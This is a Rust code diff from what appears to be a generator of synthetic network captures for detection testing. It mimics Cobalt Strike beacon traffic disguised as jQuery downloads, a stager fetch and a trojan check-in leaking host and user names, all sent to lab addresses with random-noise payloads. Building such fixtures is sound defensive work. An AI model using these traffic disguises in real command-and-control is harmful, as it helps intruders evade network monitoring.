@@ -477,44 +477,59 @@ fn checksum8_path(target: u8, seed: u64) -> String {
 }
 
 /// Command and control over HTTP against 10.40.0.66: 53001 a Cobalt
-/// Strike default-profile beacon (GET /ca with its metadata in a base64
-/// cookie), 53002 its output POST to /submit.php?id=N, 53003 an x64 stager
-/// fetch (a checksum8 URI), 53004 a plain HTTP trojan checking in with the
-/// host name, user name and OS in the query.
+/// Strike beacon under a profile of its own (its second check-in, from
+/// 53005 first, with the same metadata block in a cookie), 53002 its task
+/// output POST, 53003 an x64
+/// stager fetch (a checksum8 URI), 53004 a plain HTTP trojan checking in
+/// with the host name, user name and OS in the query.
 pub fn c2(path: &Path) -> std::io::Result<()> {
     let server = ("10.40.0.66", 80);
     let ie = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; BOIE9;ENUS)";
-    let cookie = STANDARD.encode(noise(11, 128));
-    let beacon = session(
-        ("10.40.0.7", 53001),
-        server,
-        &request(
-            "GET",
-            "/ca",
-            &[
-                ("Cookie", &cookie),
-                ("User-Agent", ie),
-                ("Host", "10.40.0.66"),
-                ("Connection", "Keep-Alive"),
-                ("Cache-Control", "no-cache"),
-            ],
-            b"",
-        ),
-        &response("application/octet-stream", &noise(12, 48)),
-        3,
-    );
+    // A beacon under a profile of its own: its RSA-1024 metadata block in
+    // a cookie, identical at both check-ins; the first answer empty, the
+    // second a task (AES blocks and an HMAC).
+    let cookie = format!("SESSIONID={}", STANDARD.encode(noise(11, 128)));
+    let checkin = |port: u16, answer: &[u8]| {
+        session(
+            ("10.40.0.7", port),
+            server,
+            &request(
+                "GET",
+                "/jquery-3.3.1.min.js",
+                &[
+                    (
+                        "Accept",
+                        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+                    ),
+                    ("Cookie", &cookie),
+                    ("User-Agent", ie),
+                    ("Host", "10.40.0.66"),
+                    ("Connection", "Keep-Alive"),
+                    ("Cache-Control", "no-cache"),
+                ],
+                b"",
+            ),
+            &response("application/javascript; charset=utf-8", answer),
+            2,
+        )
+    };
+    let first_checkin = checkin(53005, b"");
+    let beacon = checkin(53001, &noise(12, 48));
+    // Its task output: a 4-byte length of the rest, AES blocks, the HMAC.
+    let mut task_output = 64u32.to_be_bytes().to_vec();
+    task_output.extend(noise(13, 64));
     let output = session(
         ("10.40.0.7", 53002),
         server,
         &request(
             "POST",
-            "/submit.php?id=1712456023",
+            "/jquery-3.3.2.min.js?__cfduid=1712456023",
             &[
                 ("Content-Type", "application/octet-stream"),
                 ("User-Agent", ie),
                 ("Host", "10.40.0.66"),
             ],
-            &noise(13, 68),
+            &task_output,
         ),
         &response("text/html", b""),
         2,
@@ -531,7 +546,7 @@ pub fn c2(path: &Path) -> std::io::Result<()> {
         &response("application/octet-stream", &noise(15, 2_100)),
         2,
     );
-    let checkin = session(
+    let trojan = session(
         ("10.40.0.7", 53004),
         ("10.40.0.67", 8080),
         &request(
@@ -543,7 +558,7 @@ pub fn c2(path: &Path) -> std::io::Result<()> {
         &response("text/plain", b"ok|sleep=60"),
         2,
     );
-    write(path, vec![beacon, output, stager, checkin])
+    write(path, vec![first_checkin, beacon, output, stager, trojan])
 }
 
 /// Cryptomining: 54001 a Stratum v1 session to a pool (subscribe,
